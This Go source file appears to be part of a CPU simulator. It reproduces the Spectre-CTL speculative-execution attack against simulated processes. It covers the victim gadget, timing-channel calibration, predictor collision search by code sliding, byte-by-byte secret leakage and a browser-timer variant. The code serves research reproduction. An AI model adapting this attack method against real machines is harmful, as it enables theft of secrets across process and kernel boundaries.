package attack

import (
	"sort"
	"sync"

	"zenspec/internal/asm"
	"zenspec/internal/harness"
	"zenspec/internal/isa"
	"zenspec/internal/kernel"
	"zenspec/internal/mem"
	"zenspec/internal/revng"
)

// Spectre-CTL victim layout. The victim is a separate process; the attacker
// influences array2 and the idx input through the victim's normal request
// interface (modeled as direct writes), exactly as the paper's PoC does.
const (
	ctlVictimVA = 0x1000000
	ctlArray1VA = 0x2000000
	ctlArray2VA = 0x3000000
	ctlIdxVA    = 0x4000000
	ctlSecretVA = 0x5000000
	// ctlKnownSlot is an array2 slot (outside the 0..255 guess range) the
	// attacker points ld2 at during training, so ld3's aliasing is fully
	// under attacker control.
	ctlKnownSlot = 300
)

// buildCTLVictim assembles the Listing 3 gadget:
//
//	array2[idx] = 0;                       // store, address delayed
//	temp = array2[array1[array2[idx2]]];   // ld1 (bypasses), ld2, ld3
//
// idx is loaded from memory (flushed by the attacker); idx2 arrives in RSI.
// Slots are 8 bytes wide.
//
// The gadget is a pure function of package constants, so it is assembled
// once (host-side memoization only — nothing simulated is cached; callers
// copy the bytes into fresh simulated memory per trial).
func buildCTLVictim() []byte {
	ctlVictimOnce.Do(func() { ctlVictimCode = buildCTLVictimCode() })
	return ctlVictimCode
}

var (
	ctlVictimOnce sync.Once
	ctlVictimCode []byte
)

func buildCTLVictimCode() []byte {
	b := asm.NewBuilder()
	b.Movi(isa.R15, ctlIdxVA)
	b.Load(isa.RCX, isa.R15, 0) // idx — slow when flushed
	b.Movi(isa.R12, 1)
	for i := 0; i < 12; i++ {
		b.Imul(isa.RCX, isa.RCX, isa.R12)
	}
	b.Shli(isa.RCX, isa.RCX, 3)
	b.Movi(isa.R13, ctlArray2VA)
	b.Add(isa.RCX, isa.RCX, isa.R13)
	b.Movi(isa.RAX, 0)
	b.Store(isa.RCX, 0, isa.RAX) // array2[idx] = 0
	b.Shli(isa.R14, isa.RSI, 3)
	b.Add(isa.R14, isa.R14, isa.R13)
	b.Load(isa.RDX, isa.R14, 0) // ld1 = array2[idx2] (bypasses the store)
	b.Movi(isa.R11, ctlArray1VA)
	b.Add(isa.RBX, isa.RDX, isa.R11)
	b.Load(isa.R8, isa.RBX, 0) // ld2 = array1[ld1]
	b.Andi(isa.R8, isa.R8, 0xff)
	b.Shli(isa.R9, isa.R8, 3)
	b.Add(isa.R9, isa.R9, isa.R13)
	b.Load(isa.R10, isa.R9, 0) // ld3 = array2[secret] — the SSBP covert send
	b.Halt()
	return b.MustAssemble(ctlVictimVA)
}

// CTLOptions configures the Spectre-CTL run.
type CTLOptions struct {
	// SliderPages for each of the two collision searches.
	SliderPages int
	// ProbeVotes is how many covert-channel probes must all read "stall"
	// before a guess counts as a hit (raised under noisy timers).
	ProbeVotes int
	// Sweeps is how many full 0..255 guess sweeps to run per byte before
	// giving up.
	Sweeps int
	// SearchVotes is how many confirmation probes (all required to read
	// non-fast) the sliding search uses per candidate offset.
	SearchVotes int
	// Votes is how many independent full recoveries each byte gets; the
	// majority wins (ties break toward the smaller value). 1 keeps the
	// single-pass behavior; raise it under fault injection, where a single
	// flipped SSBP entry can fake or mask one probe hit. 0 picks
	// automatically: 1 on a quiet machine, 3 when the config's fault plan
	// injects machine noise.
	Votes int
	// VictimDomain places the victim in another security domain (default
	// user; the paper also demonstrates leaking from kernel threads).
	VictimDomain kernel.Domain
}

type ctlAttack struct {
	l         *revng.Lab
	victim    *kernel.Process
	attacker  *kernel.Process
	ld1Col    *revng.Stld // attacker stld sharing ld1's SSBP entry
	ld3Col    *revng.Stld // attacker stld sharing ld3's SSBP entry
	tickVA    uint64      // trivial attacker program, used to force scheduling
	threshold uint64      // self-calibrated stall-vs-fast median boundary
	opts      CTLOptions
	res       *Result
}

// calibrateChannel measures the stall and fast medians on an attacker-local
// stld whose SSBP entry the attacker trains itself, and places the decision
// threshold between them. This is how browser attackers survive coarse
// jittered timers: repeated self-calibrated measurements instead of single
// cycle counts.
func (a *ctlAttack) calibrateChannel() {
	s := a.l.PlaceStldIn(a.attacker, 0)
	// Three C3=15 trainings, five stall readings each: enough samples that
	// the stall median survives quantization noise.
	var stallReads []uint64
	s.Phi(revng.Seq(7, -1, 7, -1, 7, -1)) // saturate C4, C3=15
	for batch := 0; batch < 3; batch++ {
		if batch > 0 {
			drainUntilFast(s, 60)
			s.Run(true) // C4 is pegged: one aliasing run restores C3=15
		}
		for i := 0; i < 5; i++ {
			stallReads = append(stallReads, s.Run(false).Cycles)
		}
	}
	// Outlier rejection before the median: a fault plan can flip the entry
	// mid-calibration, turning a stall reading into a fast one (or vice
	// versa); MAD filtering keeps those from dragging the estimate.
	stallReads = madFilter(stallReads)
	sort.Slice(stallReads, func(i, j int) bool { return stallReads[i] < stallReads[j] })
	stall := stallReads[len(stallReads)/2]
	drainUntilFast(s, 60)
	// The upper tail of fast readings matters more than their median: under
	// a quantized timer the common "one boundary crossed" reading must stay
	// below the threshold.
	fasts := make([]uint64, 15)
	for i := range fasts {
		fasts[i] = s.Run(false).Cycles
	}
	fasts = madFilter(fasts)
	sort.Slice(fasts, func(i, j int) bool { return fasts[i] < fasts[j] })
	fastHigh := fasts[len(fasts)*9/10] // ~p90
	a.threshold = (stall+fastHigh)/2 + 1
	if a.threshold <= fastHigh {
		a.threshold = fastHigh + 1
	}
	// A rare double-boundary fast reading can push the estimate above the
	// stall median itself, which would blind the channel entirely; stall
	// readings must stay detectable.
	if a.threshold > stall {
		a.threshold = stall
	}
}

// slow reports whether a median over votes reads indicates a trained (C3>0)
// entry.
func (a *ctlAttack) slow(s *revng.Stld, votes int) bool {
	return medianCycles(s, votes) >= a.threshold
}

// tick runs a trivial attacker program so the kernel switches contexts —
// which flushes the victim's PSFP residue and makes the next victim
// invocation speculate from SSBP state alone, as in the real cross-process
// setting where the attacker always runs between victim requests.
func (a *ctlAttack) tick() {
	a.attacker.Regs = [isa.NumRegs]uint64{}
	a.l.K.Run(a.attacker, a.tickVA, 0)
}

// SpectreCTL runs the Section V-C attack: the attacker clears C3 of the
// victim's first load so SSBP mispredicts non-aliasing; the bypassing load
// transiently reads a stale attacker-planted pointer; the third load's SSBP
// entry is updated inside the transient window (C3 jumps to 15 exactly when
// secret == idx), and the attacker reads the verdict back through timing on
// its own colliding store-load pair — no cache channel, no shared memory.
func SpectreCTL(cfg kernel.Config, secret []byte, opts CTLOptions) Result {
	shards := (len(secret) + ctlShardBytes - 1) / ctlShardBytes
	if shards <= 1 {
		return spectreCTLShard(cfg, secret, opts, 0, len(secret))
	}
	parts := harness.Trials(harness.Workers(cfg.Parallelism), shards, func(s int) Result {
		lo := s * ctlShardBytes
		hi := lo + ctlShardBytes
		if hi > len(secret) {
			hi = len(secret)
		}
		return spectreCTLShard(cfg, secret, opts, lo, hi)
	})
	res := Result{Name: "spectre-ctl", Secret: secret}
	for s, p := range parts {
		lo := s * ctlShardBytes
		hi := lo + ctlShardBytes
		if hi > len(secret) {
			hi = len(secret)
		}
		leaked := p.Leaked
		for len(leaked) < hi-lo {
			leaked = append(leaked, 0) // shard without colliders: no signal
		}
		res.Leaked = append(res.Leaked, leaked...)
		res.CollisionAttempts += p.CollisionAttempts
		res.VictimCalls += p.VictimCalls
		res.Cycles += p.Cycles
	}
	finalize(&res)
	return res
}

// ctlShardBytes is the fixed shard width of the parallel leak; like the STL
// shard width it depends only on the secret length, keeping the merged
// result identical at any worker count.
const ctlShardBytes = 32

// spectreCTLShard is one attacker instance (own machine, own calibration and
// collision searches) leaking secret[lo:hi].
func spectreCTLShard(cfg kernel.Config, secret []byte, opts CTLOptions, lo, hi int) Result {
	if opts.SliderPages == 0 {
		opts.SliderPages = 2
	}
	if opts.Votes == 0 && cfg.Faults.MachineActive() {
		// A fault plan without an explicit vote count gets the robust
		// profile by default; pass Votes: 1 to keep the fragile single
		// pass on a noisy machine anyway.
		opts.Votes = 3
	}
	if opts.ProbeVotes == 0 {
		opts.ProbeVotes = 1
		if opts.Votes > 1 {
			// Robust profile: a single jitter-inflated fast reading fakes a
			// hit somewhere in the 256-guess sweep far too often; a median
			// of 5 makes that vanishingly rare (the trained C3 of 15 can
			// afford 5 destructive reads).
			opts.ProbeVotes = 5
		}
	}
	if opts.Sweeps == 0 {
		opts.Sweeps = 2
	}
	if opts.SearchVotes == 0 {
		opts.SearchVotes = 5
	}
	res := Result{Name: "spectre-ctl", Secret: secret[lo:hi]}

	l := revng.NewLab(cfg)
	victim := l.K.NewProcess("victim", opts.VictimDomain)
	victim.MapCode(ctlVictimVA, buildCTLVictim())
	victim.MapData(ctlArray1VA, mem.PageSize)
	victim.MapData(ctlArray2VA, mem.PageSize)
	victim.MapData(ctlIdxVA, mem.PageSize)
	victim.MapData(ctlSecretVA, uint64(len(secret))+mem.PageSize)
	victim.WriteBytes(ctlSecretVA, secret)

	a := &ctlAttack{l: l, victim: victim, attacker: l.P, opts: opts, res: &res}
	const tickVA = 0x7000000
	tb := asm.NewBuilder()
	tb.Nop().Halt()
	l.P.MapCode(tickVA, tb.MustAssemble(tickVA))
	a.tickVA = tickVA
	start := l.K.CPU(0).Core.Cycle()

	a.calibrateChannel()

	// Phase 1 — find SSBP colliders for ld1 and ld3 by code sliding.
	a.findColliders()
	if a.ld1Col == nil || a.ld3Col == nil {
		res.Cycles = l.K.CPU(0).Core.Cycle() - start
		finalize(&res)
		return res
	}

	// Phase 2 — pre-train C4 of ld3's entry to saturation through the
	// attacker's own collider (three hard retrains), then drain C3 so the
	// entry sits armed: the next type-G flips C3 straight to 15.
	a.ld3Col.Phi(revng.Seq(7, -1, 7, -1, 7, -1))
	drainUntilFast(a.ld3Col, 60)

	// Phase 3 — leak byte by byte.
	for i := lo; i < hi; i++ {
		res.Leaked = append(res.Leaked, a.leakByte(uint64(i)))
	}
	res.Cycles = l.K.CPU(0).Core.Cycle() - start
	finalize(&res)
	return res
}

// callVictim performs one victim invocation with the given guess; the
// attacker has planted ptr at array2[guess] and flushed idx's cache line.
func (a *ctlAttack) callVictim(guess uint64, ptr uint64) {
	a.callVictim2(guess, guess, ptr)
}

// callVictim2 invokes the victim with independent store index (idx) and
// first-load index (idx2); idx != idx2 makes the pair non-aliasing, which
// drains a trained C3 one step per call (a stall of type F).
func (a *ctlAttack) callVictim2(idx, idx2 uint64, ptr uint64) {
	a.res.VictimCalls++
	v := a.victim
	v.Write64(ctlIdxVA, idx)
	v.Write64(ctlArray2VA+idx2*8, ptr)
	v.WarmLine(ctlArray2VA + idx2*8)
	v.FlushLine(ctlIdxVA)
	v.Regs = [isa.NumRegs]uint64{}
	v.Regs[isa.RSI] = idx2
	a.l.K.Run(v, ctlVictimVA, 0)
}

// findColliders trains each target load's SSBP entry through controlled
// victim executions, then slides attacker code until a probe stalls.
func (a *ctlAttack) findColliders() {
	l := a.l
	// ld1: run the victim three times with idx == idx2 so the bypassing
	// load rolls back (type G) and pushes C3 of ld1's entry to 15. The
	// planted pointer targets array1[0] (benign). The tick between calls
	// forces a context switch, flushing the victim's PSFP residue so each
	// call mispredicts again. Under a noisy timer the search may miss the
	// collision; it is retrained and repeated once.
	// retrain1 restores ld1's entry to a near-saturated state from *any*
	// prior state. The drain phase matters: an aliasing run against an entry
	// with C3>0 *drains* it by one (the PSFP residue is gone after the
	// tick), so retraining blind would weaken a live entry instead of
	// refreshing it. Three aliasing runs at C3=0 then restore C3=15 even
	// when the physical entry itself was evicted (C4 re-saturates first).
	retrain1 := func() {
		for i := 0; i < 16; i++ {
			a.callVictim2(99, 7, 0)
			a.tick()
		}
		for i := 0; i < 3; i++ {
			a.callVictim(7, 0)
			a.tick()
		}
	}
	for attempt := 0; attempt < 3 && a.ld1Col == nil; attempt++ {
		if attempt > 0 {
			// A failed confirmation drained C3; drain it fully through
			// non-aliasing victim calls, then one aliasing call re-saturates
			// it (C4 is already pegged at 3).
			for i := 0; i < 36; i++ {
				a.callVictim2(99, 7, 0)
				a.tick()
			}
		}
		for i := 0; i < 3; i++ {
			a.callVictim(7, 0)
			a.tick()
		}
		slider1 := l.NewSlider(a.attacker, a.opts.SliderPages, asm.BuildStld(asm.StldOptions{}))
		a.ld1Col = a.slideSearch(slider1, a.confirm(retrain1), a.robustOnly(retrain1))
	}
	if a.ld1Col == nil {
		return
	}
	drainUntilFast(a.ld1Col, 60)

	// ld3: plant a pointer into array2 itself at a slot the attacker
	// controls, so ld2 reads an attacker-chosen byte k and ld3 aliases the
	// store exactly when k == idx. Three such runs saturate C4 and set C3.
	k := uint64(0x5a)
	a.victim.Write64(ctlArray2VA+ctlKnownSlot*8, k) // array1[ptr] == k
	ptr := uint64(ctlArray2VA+ctlKnownSlot*8) - ctlArray1VA
	// Same drain-then-retrain discipline as retrain1 above, with one extra
	// wrinkle: every victim call plants its pointer at the invoked slot, so
	// the non-aliasing drain calls overwrite array2[ctlKnownSlot] — the very
	// value ld2 must read for callVictim(k, ptr) to alias on ld3. Re-plant k
	// before the aliasing runs or the "retrain" never retrains anything.
	retrain3 := func() {
		for i := 0; i < 16; i++ {
			a.callVictim2(k+1, ctlKnownSlot, ptr)
			drainUntilFast(a.ld1Col, 60)
		}
		a.victim.Write64(ctlArray2VA+ctlKnownSlot*8, k)
		for i := 0; i < 3; i++ {
			a.callVictim(k, ptr)
			drainUntilFast(a.ld1Col, 60)
		}
	}
	for attempt := 0; attempt < 3 && a.ld3Col == nil; attempt++ {
		if attempt > 0 {
			// Drain ld3's C3 through non-aliasing stalls before retraining.
			for i := 0; i < 36; i++ {
				a.callVictim2(k+1, ctlKnownSlot, ptr)
				drainUntilFast(a.ld1Col, 60)
			}
		}
		a.victim.Write64(ctlArray2VA+ctlKnownSlot*8, k) // drains clobber the slot
		for i := 0; i < 3; i++ {
			a.callVictim(k, ptr)
			drainUntilFast(a.ld1Col, 60) // keep ld1's entry clear
		}
		slider3 := l.NewSlider(a.attacker, a.opts.SliderPages, asm.BuildStld(asm.StldOptions{}))
		a.ld3Col = a.slideSearch(slider3, a.confirm(retrain3), a.robustOnly(retrain3))
	}
}

// confirm builds a functional collision check for the robust profile
// (Votes > 1): drain the candidate's entry through the probe, retrain it
// through the victim, and require the stall to come back. A spuriously
// trained entry (co-resident noise) stalls a probe just as convincingly,
// but only the victim's own entry is restored by a victim run — C4 is
// saturated from training, so one aliasing run flips C3 back to 15. Returns
// nil (no confirmation) outside the robust profile, keeping the clean
// search byte-identical.
func (a *ctlAttack) confirm(retrain func()) func(*revng.Stld) bool {
	if a.opts.Votes <= 1 {
		return nil
	}
	return func(probe *revng.Stld) bool {
		drainUntilFast(probe, 60)
		retrain()
		return a.slow(probe, a.opts.SearchVotes)
	}
}

// robustOnly returns fn under the robust profile (Votes > 1) and nil
// otherwise, keeping the clean code path byte-identical.
func (a *ctlAttack) robustOnly(fn func()) func() {
	if a.opts.Votes <= 1 {
		return nil
	}
	return fn
}

// slideSearch runs the code-sliding loop with vote-based confirmation so a
// single jittered fast reading does not pass as a collision. The target's
// C3 is 15 at search time, so a true collider can afford several confirming
// stall reads. A non-nil confirm additionally validates each candidate
// functionally; a rejected candidate's entry is left drained, so the search
// slides past it instead of restarting.
//
// A non-nil rearm is invoked every 256 offsets to refresh the target's
// entry. The SSBP physical store runs full during a sweep, so every
// co-resident spurious training evicts a random live entry; over the
// thousands of probe runs of one sweep, the target almost surely dies
// before the true collider's offset is reached unless it is periodically
// retrained.
func (a *ctlAttack) slideSearch(slider *revng.Slider, confirm func(*revng.Stld) bool, rearm func()) *revng.Stld {
	for at := 0; at+len(slider.Tmpl().Code) < slider.MaxOffsets(); at++ {
		if rearm != nil && at%256 == 0 && at > 0 {
			rearm()
		}
		a.res.CollisionAttempts++
		probe := slider.Place(at)
		if probe.Run(false).Cycles < a.threshold {
			continue
		}
		if !a.slow(probe, a.opts.SearchVotes) {
			continue
		}
		if confirm == nil || confirm(probe) {
			return probe
		}
	}
	return nil
}

// probeHit reads the covert channel: a slow median on the ld3 collider
// means C3 was set inside the victim's transient window.
func (a *ctlAttack) probeHit() bool {
	return a.slow(a.ld3Col, a.opts.ProbeVotes)
}

// SpectreCTLBrowser runs the Section V-C2 browser variant: the same
// Spectre-CTL machinery, but every timing measurement goes through a
// constructed coarse browser timer (~10 ns quantization with jitter).
// Accuracy and bandwidth degrade accordingly — the paper measured 81.1%
// accuracy at ~170 B/s against 99.97% for the native attack.
func SpectreCTLBrowser(cfg kernel.Config, secret []byte) Result {
	cfg.TimerQuantum = 40 // ~10 ns at 4 GHz
	cfg.TimerJitter = 18
	res := SpectreCTL(cfg, secret, CTLOptions{ProbeVotes: 5, Sweeps: 2, SearchVotes: 10})
	res.Name = "spectre-ctl (browser timer)"
	return res
}

// leakByte recovers one secret byte, majority-voting over Votes independent
// recoveries when the options ask for it (a single flipped SSBP entry can
// fake or mask one probe hit; it cannot fake a majority). Only votes whose
// sweep actually found a hit count: a healthy channel hits at some guess for
// every byte value, so a hitless sweep means the channel died (a spurious
// train de-saturated ld3's C4 or stuck ld1 into predicted aliasing), and
// each robust vote re-arms the channel before sweeping.
func (a *ctlAttack) leakByte(i uint64) byte {
	if a.opts.Votes <= 1 {
		b, _ := a.leakOnce(i)
		return b
	}
	var votes []byte
	for v := 0; v < a.opts.Votes; v++ {
		a.rearm()
		if b, ok := a.leakOnce(i); ok {
			votes = append(votes, b)
		}
	}
	if len(votes) == 0 {
		return 0
	}
	return majorityByte(votes)
}

// rearm restores the covert channel through the attacker's own colliders:
// re-saturate ld3's C4 (three hard retrains) and leave both entries drained,
// exactly the phase 2 state. Co-resident noise can silently overwrite either
// entry's counters; the attacker pays ~40 runs to recover instead of losing
// every remaining byte.
func (a *ctlAttack) rearm() {
	a.ld3Col.Phi(revng.Seq(7, -1, 7, -1, 7, -1))
	drainUntilFast(a.ld3Col, 60)
	drainUntilFast(a.ld1Col, 60)
}

// leakOnce is one full recovery of secret byte i: for each guessed value the
// attacker plants the secret's address, triggers the victim, and asks the
// covert channel whether ld3 aliased the store (secret == guess). ok is
// false when no guess hit in any sweep.
//
// The robust profile re-arms the channel periodically inside the sweep and
// confirms every hit. SSBP's physical store uses random replacement, so each
// co-resident spurious training evicts a random live entry once the store is
// full; losing ld3's entry mid-sweep de-saturates C4 (the recreating type-G
// restarts it at 1) and the true guess then cannot flip C3 — a silent death
// a full sweep hits far too often to ignore. A fault-flipped C3, conversely,
// fakes a hit at whatever guess the sweep happens to be on; only the true
// guess can flip a drained entry back, so one drain-and-replay tells them
// apart.
func (a *ctlAttack) leakOnce(i uint64) (byte, bool) {
	ptr := uint64(ctlSecretVA) + i - ctlArray1VA
	robust := a.opts.Votes > 1
	for sweep := 0; sweep < a.opts.Sweeps; sweep++ {
		if robust && sweep > 0 {
			a.rearm()
		}
		for guess := 0; guess < 256; guess++ {
			if robust && guess > 0 && guess%64 == 0 {
				a.rearm() // bound the blast radius of a mid-sweep eviction
			}
			// ld1's entry must predict non-aliasing for the window to open.
			drainUntilFast(a.ld1Col, 60)
			a.callVictim(uint64(guess), ptr)
			if !a.probeHit() {
				continue
			}
			drainUntilFast(a.ld3Col, 60) // reset the channel
			if robust && !a.confirmHit(uint64(guess), ptr) {
				continue
			}
			return byte(guess), true
		}
	}
	return 0, false
}

// confirmHit replays the victim at a guess that just hit, with the channel
// drained: the true guess flips C3 straight back (C4 is saturated), while a
// hit faked by predictor pollution stays fast.
func (a *ctlAttack) confirmHit(guess, ptr uint64) bool {
	drainUntilFast(a.ld1Col, 60)
	a.callVictim(guess, ptr)
	hit := a.probeHit()
	drainUntilFast(a.ld3Col, 60)
	return hit
}
